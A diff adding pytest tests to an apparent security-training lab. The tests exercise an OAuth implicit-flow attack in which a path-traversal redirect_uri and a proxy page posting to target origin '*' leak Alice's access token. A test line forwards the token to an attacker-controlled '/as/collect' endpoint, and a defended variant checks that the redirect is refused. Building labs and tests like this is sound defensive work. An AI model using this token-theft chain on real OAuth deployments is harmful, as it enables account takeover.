@@ -199,3 +199,67 @@ def test_token_injection_unexpected_paths(lab_server):
                  "made-up")
     assert len(run.entries("sign-in")) == 3
     assert verdict(bob, lab_server, TI, "vulnerable") == "undecided"
+
+
+# -- proxy-page -----------------------------------------------------------------
+
+PP = "proxy-page"
+EXPLOIT = re.compile(r'id="proxy-bait" href="([^"]+)"')
+
+
+def exploit_link(attacker_page: str) -> str:
+    """The crafted authorization request on the attacker's exploit page."""
+    exploit = requests.get(attacker_page.split("/labs/", 1)[0] + bait(attacker_page))
+    assert exploit.headers["Cross-Origin-Opener-Policy"] == "unsafe-none"
+    return html.unescape(EXPLOIT.search(exploit.text).group(1))
+
+
+@pytest.mark.parametrize("variant", ["vulnerable", "defended"])
+def test_proxy_page(lab_server, variant):
+    victim = requests.Session()
+    attacker_page = start(victim, lab_server, PP, variant)
+    run = run_of(lab_server, attacker_page)
+    sign_in(victim, lab_server, PP, variant, "alice")  # the sandbox remembers Alice
+    crafted = exploit_link(attacker_page)
+    assert "redirect_uri=" in crafted and "%2Fcallback%2F..%2Fpage%2Fproxy" in crafted
+    assert "response_type=token" in crafted
+    answer = run.entries("crafted-answer")[0]
+    page = victim.get(crafted, allow_redirects=False)
+    if variant == "vulnerable":
+        assert status(answer) in (200, 302)
+        assert page.status_code == 302
+        where = page.headers["Location"]
+        assert "/callback/../page/proxy#access_token=" in where
+        assert page.headers["Cross-Origin-Opener-Policy"] == "unsafe-none"
+        proxy = victim.get(where.split("#", 1)[0])
+        assert proxy.headers["Cross-Origin-Opener-Policy"] == "unsafe-none"
+        assert 'data-target-origin="*"' in proxy.text
+        # What the proxy page's script posts, as the attacker's page forwards it.
+        requests.post(attacker_page + "/as/collect", data={"href": where})
+        assert "access_token%3D" in run.entries("leak")[0].exchange.request.text
+        assert me_of(run.entries("attacker-me")[0])["id"] == "alice"
+    else:
+        assert status(answer) == 400
+        assert page.status_code == 400 and "Invalid redirect URI" in page.text
+        proxy = victim.get(lab_server(f"/labs/{PP}/defended/page/proxy"))
+        assert f'data-target-origin="{lab_server("").rstrip("/")}"' in proxy.text
+        assert run.entries("leak") == []
+    assert verdict(victim, lab_server, PP, variant) == (
+        "succeeded" if variant == "vulnerable" else "failed")
+
+
+def test_proxy_page_leak_without_a_token_decides_nothing(lab_server):
+    """The proxy page opened before any sign-in posts an address with no token:
+    nothing to judge; the sandbox's own issuers still refuse the traversal."""
+    victim = requests.Session()
+    attacker_page = start(victim, lab_server, PP, "vulnerable")
+    run = run_of(lab_server, attacker_page)
+    requests.post(attacker_page + "/as/collect", data={
+        "href": lab_server(f"/labs/{PP}/vulnerable/page/proxy")})
+    assert run.entries("attacker-me") == []
+    assert verdict(victim, lab_server, PP, "vulnerable") == "undecided"
+    crafted = exploit_link(attacker_page)
+    for path in ("/sandbox/authorize", "/sandbox/best-practice/authorize"):
+        query = crafted.split("?", 1)[1]
+        refused = requests.get(lab_server(path) + "?" + query, allow_redirects=False)
+        assert refused.status_code == 400 and "Invalid redirect URI" in refused.text
